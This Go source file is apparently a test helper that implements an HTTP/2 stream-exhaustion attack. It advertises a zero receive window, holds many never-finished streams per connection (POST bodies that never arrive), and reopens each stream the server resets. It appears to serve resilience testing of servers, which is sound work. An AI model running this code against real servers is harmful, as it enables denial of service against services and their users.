package attack

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Streams are HTTP/2 requests that are never finished: their client announces that
// it can receive nothing, and of a body it sends nothing.
type Streams struct {
	HTTPS       string
	TLS         *tls.Config
	From        string // their IP address
	Connections int
	Each        int    // requests open at once on each connection
	Method      string // GET, or POST with a body that never comes
	Path        string
}

// Open opens the streams and keeps their number until the test ends: one that the
// server ends is followed by another. It returns when all are open.
func (s Streams) Open(t testing.TB) {
	t.Helper()
	stop := make(chan struct{})
	var all sync.WaitGroup
	t.Cleanup(func() { close(stop); all.Wait() })
	for range s.Connections {
		conn, err := s.dial()
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = conn.Close() })
		h := &hoard{Streams: s, conn: conn, framer: http2.NewFramer(conn, conn)}
		h.encoder = hpack.NewEncoder(&h.block)
		if err := h.begin(); err != nil {
			t.Fatal(err)
		}
		all.Go(func() { h.replenish(stop) })
	}
}

func (s Streams) dial() (*tls.Conn, error) {
	dialer := &tls.Dialer{NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(s.From)}}, Config: s.TLS.Clone()}
	dialer.Config.NextProtos = []string{http2.NextProtoTLS}
	conn, err := dialer.Dial("tcp", s.HTTPS)
	if err != nil {
		return nil, err
	}
	return conn.(*tls.Conn), nil
}

// hoard is one connection.
type hoard struct {
	Streams
	conn    *tls.Conn
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	next    uint32
}

func (h *hoard) begin() error {
	if _, err := io.WriteString(h.conn, http2.ClientPreface); err != nil {
		return err
	}
	if err := h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	h.next = 1
	for range h.Each {
		if err := h.request(); err != nil {
			return err
		}
	}
	return nil
}

func (h *hoard) request() error {
	h.block.Reset()
	for _, f := range [][2]string{{":method", h.Method}, {":scheme", "https"}, {":authority", h.HTTPS}, {":path", h.Path}} {
		if err := h.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	id := h.next
	h.next += 2
	return h.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: h.block.Bytes(), EndStream: h.Method != http.MethodPost, EndHeaders: true,
	})
}

// replenish opens a stream for each that the server ends, until stop is closed or
// the server closes the connection.
func (h *hoard) replenish(stop <-chan struct{}) {
	for {
		_ = h.conn.SetReadDeadline(time.Now().Add(time.Minute)) // ReadFrame fails if it is closed
		f, err := h.framer.ReadFrame()
		if err != nil {
			return
		}
		select {
		case <-stop:
			return
		case <-time.After(time.Millisecond):
		}
		headers, _ := f.(*http2.HeadersFrame)
		if _, reset := f.(*http2.RSTStreamFrame); reset || headers != nil && headers.StreamEnded() {
			if h.request() != nil {
				return
			}
		}
	}
}
